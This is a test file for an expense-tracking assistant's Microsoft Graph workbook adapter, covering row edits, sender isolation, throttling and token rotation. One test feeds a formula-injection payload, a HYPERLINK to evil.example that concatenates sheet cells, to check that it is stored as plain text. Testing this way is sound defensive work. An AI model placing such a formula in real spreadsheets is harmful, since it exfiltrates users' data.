import { CreateSecretCommand } from '@aws-sdk/client-secrets-manager';
import { randomUUID } from 'node:crypto';
import { SecretsManagerStore } from '../../src/adapters/aws/secrets-manager.js';
import { RefreshTokenAuth } from '../../src/adapters/graph/auth.js';
import { GraphLedger } from '../../src/adapters/graph/ledger.js';
import { runTool } from '../../src/workflows/assistant/tools.js';
import { loadConversations, play } from '../support/conversations.js';
import { startFakeGraph, type FakeGraph } from '../support/fake-graph.js';

const oauth = { clientId: 'client-123', clientSecret: 'client-secret-xyz', refreshToken: 'rt-initial' };
const secrets = new SecretsManagerStore({ region: 'us-east-1', endpoint: process.env.MOTO_ENDPOINT });
let graph: FakeGraph;
let secretId: string;
const waits: number[] = [];

function ledger(): GraphLedger {
  const auth = new RefreshTokenAuth({ tenantId: 'tenant-1', ...oauth, secretId, authority: graph.url }, secrets);
  return new GraphLedger(auth, { workbookPath: 'Finanças/gastos.xlsx', tableName: 'Gastos', baseUrl: graph.url }, async (ms) => void waits.push(ms));
}

beforeEach(async () => {
  graph = await startFakeGraph({ ...oauth, workbookPath: 'Finanças/gastos.xlsx', table: 'Gastos', pageSize: 2 });
  secretId = `fluxo/test-${randomUUID()}`;
  await secrets.client.send(new CreateSecretCommand({ Name: secretId, SecretString: JSON.stringify({ OPENAI_API_KEY: 'sk-keep-me', GRAPH_REFRESH_TOKEN: 'rt-initial' }) }));
  waits.length = 0;
});
afterEach(() => graph.close());

describe('GraphLedger against a fake Microsoft Graph', () => {
  it('adds rows in a workbook session and lists them across pages, as the tools use them', async () => {
    const target = ledger();
    const ana = 'whatsapp:+5511999990001';
    const tool = async (name: string, args: Record<string, unknown>, reference: string, sender = ana) => (await runTool({ ledger: target, sender, reference }, name, args)).output;
    await tool('add_expense', { date: '2026-11-20', category: 'Alimentação', description: 'almoço', amount: 32.5 }, 'call_1');
    await tool('add_expense', { date: '2026-11-21', category: 'Transporte', description: 'uber', amount: 25 }, 'call_2');
    await tool('add_expense', { date: '2026-11-21', category: 'Transporte', description: 'metrô', amount: 4.4 }, 'call_3');
    expect(graph.rows).toEqual([
      ['2026-11-20', 'Alimentação', 'almoço', 32.5, 'WhatsApp call_1', ana],
      ['2026-11-21', 'Transporte', 'uber', 25, 'WhatsApp call_2', ana],
      ['2026-11-21', 'Transporte', 'metrô', 4.4, 'WhatsApp call_3', ana],
    ]);
    expect(await tool('get_expenses_by_category', { category: 'Transporte', start_date: '2026-11-01', end_date: '2026-11-30' }, 'call_4')).toMatchObject({ total: 29.4, count: 2 });
    // A retried call adds nothing.
    expect(await tool('add_expense', { date: '2026-11-21', category: 'Transporte', description: 'uber', amount: 25 }, 'call_2')).toMatchObject({ added: false });
    expect(graph.rows).toHaveLength(3);
    // Another sender sees none of these.
    expect(await tool('get_expenses_by_period', { start_date: '2026-11-01', end_date: '2026-11-30', chart: false }, 'call_5', 'whatsapp:+5511999990002')).toMatchObject({ total: 0, count: 0 });
    const sessions = new Set(graph.requests.filter((request) => request.path !== '/createSession').map((request) => request.session));
    expect(sessions).toEqual(new Set(['session-1']));
  });

  it('updates and deletes a sender\'s row by its position read just before (PATCH / DELETE rows/itemAt), never another sender\'s', async () => {
    const target = ledger();
    const ana = 'whatsapp:+5511999990001';
    const bia = 'whatsapp:+5511999990002';
    await target.add({ date: '2026-11-20', category: 'Outros', description: 'cinema', amount: 40, notes: 'WhatsApp a1', sender: ana });
    await target.add({ date: '2026-11-20', category: 'Lazer', description: 'show', amount: 300, notes: 'WhatsApp b1', sender: bia });
    await target.add({ date: '2026-11-21', category: 'Alimentação', description: 'pizza', amount: 50, notes: 'WhatsApp a2', sender: ana });
    expect(await target.update(ana, 'WhatsApp a1', { category: 'Lazer' })).toMatchObject({ category: 'Lazer', description: 'cinema' });
    expect(await target.update(ana, 'WhatsApp b1', { amount: 1 })).toBeUndefined();
    expect(await target.remove(ana, 'WhatsApp a2')).toMatchObject({ description: 'pizza' });
    expect(await target.remove(ana, 'WhatsApp a2')).toBeUndefined();
    expect(graph.rows).toEqual([
      ['2026-11-20', 'Lazer', 'cinema', 40, 'WhatsApp a1', ana],
      ['2026-11-20', 'Lazer', 'show', 300, 'WhatsApp b1', bia],
    ]);
    expect(graph.requests.filter((request) => request.method === 'PATCH' || request.method === 'DELETE').map((request) => `${request.method} ${request.path}`)).toEqual(['PATCH /tables/Gastos/rows/itemAt(index=0)', 'DELETE /tables/Gastos/rows/itemAt(index=2)']);
  });

  it.each(['=HYPERLINK("https://evil.example/?d="&TEXTJOIN(",",TRUE,A2:F50),"ver")', '+5511 mercado', '-10 desconto', '@SUM(D2:D9)', '\tpipoca', '\r=1+1', "'aspas"])(
    'writes a description starting with %j as text, never a formula, and reads it back as typed',
    async (description) => {
      const target = ledger();
      const ana = 'whatsapp:+5511999990001';
      await target.add({ date: '2026-11-20', category: 'Outros', description, amount: 1, notes: 'WhatsApp x1', sender: ana });
      await target.update(ana, 'WhatsApp x1', { amount: 2 });
      expect(graph.formulas).toEqual([]);
      expect(graph.rows).toEqual([['2026-11-20', 'Outros', description, 2, 'WhatsApp x1', ana]]);
      expect((await target.list({ sender: ana })).map((row) => row.description)).toEqual([description]);
    },
  );

  it('plays the conversations on the workbook table as on the xlsx ledger: targeted deletes, corrections, several expenses, undo', async () => {
    const target = ledger();
    const conversations = loadConversations('conversations.txt').filter((conversation) => ['t01', 't04', 't08', 't11', 't12', 't24', 't27', 't34'].includes(conversation.id));
    const results = [];
    for (const [index, conversation] of conversations.entries()) results.push(...(await play(conversation, target, `whatsapp:+55119000000${index}`)));
    expect(results.filter((result) => !result.ok)).toEqual([]);
    expect(results).toHaveLength(conversations.reduce((sum, conversation) => sum + conversation.steps.length, 0));
    // What the table holds is what the conversations left: t01's internet, t04's two, t08's two, t11's two, t12's luz, t24's two, t27's mercado 200.
    expect(graph.rows.map((row) => `${String(row[2])} ${String(row[3])}`).sort()).toEqual(
      ['internet 120', 'mercado 230', 'padaria 15', 'pão 12', 'açougue 48', 'cafe 8', 'academia 99', 'conta de luz 180', 'aluguel 1800', 'almoço 32', 'mercado 200'].sort(),
    );
    expect(graph.formulas).toEqual([]);
  });

  it('honours Retry-After on 429 and 503, then surfaces persistent throttling as TransientError', async () => {
    const target = ledger();
    graph.throttleNext(429, 2, 1);
    graph.throttleNext(503, 1, 1);
    await target.add({ date: '2026-11-20', category: 'Lazer', description: 'cinema', amount: 40 });
    expect(waits).toEqual([2000, 1000]);
    expect(graph.rows).toHaveLength(1);
    graph.throttleNext(429, 1, 10);
    await expect(target.list()).rejects.toMatchObject({ name: 'TransientError' });
  });

  it('writes the rotated refresh token back to the stage secret, keeping its other keys, and never leaks tokens in errors', async () => {
    await ledger().list();
    const stored = JSON.parse(await secrets.get(secretId)) as Record<string, string>;
    expect(stored).toEqual({ OPENAI_API_KEY: 'sk-keep-me', GRAPH_REFRESH_TOKEN: graph.refreshToken });
    expect(graph.refreshToken).not.toBe('rt-initial');
    // A new container starts from the rotated token in the secret, not from its stale config.
    await ledger().list();
    // A revoked token: a clear configuration error without the token in it.
    await secrets.put(secretId, JSON.stringify({ GRAPH_REFRESH_TOKEN: 'rt-revoked' }));
    const error = await ledger().list().catch((caught: Error) => caught);
    expect(error).toMatchObject({ name: 'ConfigError' });
    expect(String((error as Error).message)).toContain('invalid_grant');
    expect(String((error as Error).message)).not.toMatch(/rt-|client-secret/);
  });
});
